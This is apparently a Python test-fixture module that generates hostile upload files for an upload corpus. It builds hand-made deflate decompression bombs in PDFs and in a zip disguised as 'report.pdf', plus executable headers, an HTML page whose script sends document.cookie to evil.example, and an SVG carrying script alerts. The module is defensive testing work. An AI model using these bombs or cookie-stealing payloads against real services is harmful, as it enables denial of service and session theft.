"""Hostile files for the upload corpus, made on the fly: nothing binary is kept in the repo.

The decompression bombs are written as deflate data by hand (a fixed-Huffman block that
repeats "copy 258 bytes from one byte back"), so a stream that inflates to gigabytes takes
milliseconds to make instead of compressing gigabytes of zeros.
"""

from __future__ import annotations

import io
import struct
import sys
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name

from tests.meetings.paper_factories import encrypted_pdf, make_pdf

GIB = 1024**3


def _bits_to_bytes(bits: str) -> bytes:
    # Deflate fills each byte from its least significant bit.
    return bytes(int(bits[i : i + 8][::-1], 2) for i in range(0, len(bits), 8))


def raw_deflate_zeros(size: int, *, prefix: bytes = b"") -> bytes:
    """Raw deflate data for `prefix` followed by about `size` zero bytes (rounded to whole
    258-byte copies), and nothing else. The prefix goes in a stored block."""
    out = b""
    if prefix:
        # Stored block, not final: 3 header bits padded to a byte, LEN, NLEN, the bytes.
        out += b"\x00" + struct.pack("<HH", len(prefix), 0xFFFF ^ len(prefix)) + prefix
    codes = max(1, (size - 1) // 258)
    literal_zero, copy_258_back_1, end = "00110000", "11000101" + "00000", "0000000"
    # Final fixed-Huffman block: its header, one literal zero, then copies. 3 + 8 + 13 bits
    # make three whole bytes; after that, eight copies are exactly 13 bytes.
    out += _bits_to_bytes("110" + literal_zero + copy_258_back_1)
    rest = codes - 1
    out += _bits_to_bytes(copy_258_back_1 * 8) * (rest // 8)
    tail = copy_258_back_1 * (rest % 8) + end
    return out + _bits_to_bytes(tail + "0" * (-len(tail) % 8))


def inflated_size(size: int) -> int:
    return 1 + 258 * max(1, (size - 1) // 258)


def zlib_zeros(size: int, *, prefix: bytes = b"") -> bytes:
    """A zlib stream (what /FlateDecode reads) of `prefix` and about `size` zeros."""
    n = inflated_size(size)
    checksum = zlib.adler32(prefix)
    a, b = checksum & 0xFFFF, checksum >> 16
    # Zeros leave the first Adler-32 sum alone and add it to the second once per byte.
    b = (b + n * a) % 65521
    adler = struct.pack(">I", (b << 16) | a)
    return b"\x78\x01" + raw_deflate_zeros(size, prefix=prefix) + adler


def pdf_bytes(pdf: pikepdf.Pdf) -> bytes:
    """The PDF as a file, its streams written exactly as they were made."""
    out = io.BytesIO()
    pdf.save(out, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return out.getvalue()


def _helvetica(pdf: pikepdf.Pdf) -> Dictionary:
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    return Dictionary(Font=Dictionary(F1=pdf.make_indirect(font)))


def content_bomb(size: int = 2 * GIB) -> bytes:
    """One page whose content stream, compressed twice, inflates to `size` bytes: the file
    is some tens of kilobytes."""
    pdf = pikepdf.new()
    page = pdf.add_blank_page(page_size=(595, 842))
    page.obj.Resources = _helvetica(pdf)
    stream = pikepdf.Stream(pdf, b"")
    stream.write(
        zlib.compress(zlib_zeros(size), 9), filter=Array([Name.FlateDecode, Name.FlateDecode])
    )
    page.obj.Contents = pdf.make_indirect(stream)
    return pdf_bytes(pdf)


def object_stream_bomb(size: int = 2 * GIB) -> bytes:
    """The catalogue and page tree in an object stream that runs on into `size` zero bytes:
    a reader must inflate it before it can find a single page."""
    objects = [
        b"<< /Type /Catalog /Pages 3 0 R >>",
        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 3 0 R /MediaBox [0 0 595 842] >>",
    ]
    offsets, body = [], b""
    for obj in objects:
        offsets.append(len(body))
        body += obj + b"\n"
    index = b" ".join(f"{n} {o}".encode() for n, o in zip((2, 3, 4), offsets, strict=True)) + b"\n"
    data = zlib.compress(zlib_zeros(size, prefix=index + body), 9)
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    stream_at = len(out)
    out += (
        f"1 0 obj\n<< /Type /ObjStm /N 3 /First {len(index)} "
        f"/Filter [/FlateDecode /FlateDecode] /Length {len(data)} >>\nstream\n"
    ).encode()
    out += data + b"\nendstream\nendobj\n"
    xref_at = len(out)
    rows = [(0, 0, 65535), (1, stream_at, 0), (2, 1, 0), (2, 1, 1), (2, 1, 2), (1, xref_at, 0)]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    out += (
        f"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 2 0 R /Length {len(table)} >>\nstream\n"
    ).encode()
    out += table + b"\nendstream\nendobj\n"
    out += f"startxref\n{xref_at}\n%%EOF\n".encode()
    return bytes(out)


def zip_bomb(size: int = 256 * 1024**2) -> bytes:
    """A zip whose one member inflates to `size` bytes, named like a report."""
    raw = raw_deflate_zeros(size)
    n = inflated_size(size)
    crc = 0
    chunk = bytes(1024 * 1024)
    left = n
    while left:
        piece = chunk[: min(left, len(chunk))]
        crc = zlib.crc32(piece, crc)
        left -= len(piece)
    name = b"report.pdf"
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(raw), n, len(name), 0)
    central = struct.pack(
        "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(raw), n, len(name),
        0, 0, 0, 0, 0, 0,
    )  # fmt: skip
    body = local + name + raw
    directory = central + name
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(directory), len(body), 0)
    return body + directory + end


def small_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("run.bat", "start calc.exe\r\n")
    return buffer.getvalue()


def windows_program() -> bytes:
    """The start of a Windows executable: the MZ header, the DOS stub, the PE header."""
    dos = bytearray(b"MZ" + bytes(62))
    dos[0x3C:0x40] = struct.pack("<I", 0x80)
    stub = b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21"
    stub += b"This program cannot be run in DOS mode.\r\r\n$"
    program = bytes(dos) + stub
    program += bytes(0x80 - len(program)) + b"PE\x00\x00" + struct.pack("<H", 0x8664)
    return program + bytes(4096)


def linux_program() -> bytes:
    """The first 64 KB of the Python interpreter running the tests: a real ELF binary."""
    with open(sys.executable, "rb") as program:
        return program.read(64 * 1024)


def truncated_pdf() -> bytes:
    whole = make_pdf(pages=6, text="Budget monitoring")
    return whole[: len(whole) // 2]


def restricted_pdf() -> bytes:
    return encrypted_pdf("")


def password_pdf() -> bytes:
    return encrypted_pdf("board-only")


def html_page() -> bytes:
    return (
        b"<!DOCTYPE html><html><head><title>Report</title></head><body>"
        b"<script>fetch('https://evil.example/?c='+document.cookie)</script></body></html>\n"
    )


def svg_image() -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)">'
        b"<script>alert(1)</script></svg>\n"
    )


def many_pages(pages: int) -> bytes:
    """A PDF of `pages` pages that all share one content stream: small, quick to make."""
    pdf = pikepdf.new()
    resources = _helvetica(pdf)
    content = pdf.make_stream(b"BT /F1 14 Tf 72 720 Td (Appendix) Tj ET")
    for _ in range(pages):
        page = pdf.add_blank_page(page_size=(595, 842))
        page.obj.Resources = resources
        page.obj.Contents = content
    return pdf_bytes(pdf)


def large_pdf(size: int) -> bytes:
    """A real PDF of at least `size` bytes (one page of a great deal of uncompressed text)."""
    line = b"BT /F1 10 Tf 72 720 Td (Appendix of figures) Tj ET\n"
    pdf = pikepdf.new()
    page = pdf.add_blank_page(page_size=(595, 842))
    page.obj.Resources = _helvetica(pdf)
    page.obj.Contents = pdf.make_stream(line * (size // len(line) + 1))
    return pdf_bytes(pdf)


def wordy_pdf(size: int) -> bytes:
    """A real PDF whose one content stream holds `size` bytes of varied text, compressed as
    a PDF writer would (about five to one)."""
    pdf = pikepdf.new()
    page = pdf.add_blank_page(page_size=(595, 842))
    page.obj.Resources = _helvetica(pdf)
    lines, total, row = [], 0, 0
    while total < size:
        line = f"BT /F1 8 Tf 72 {row % 700 + 72} Td (Row {row} value {row * 7919 % 10007}) Tj ET\n"
        lines.append(line)
        total += len(line)
        row += 1
    page.obj.Contents = pdf.make_stream("".join(lines).encode())
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()
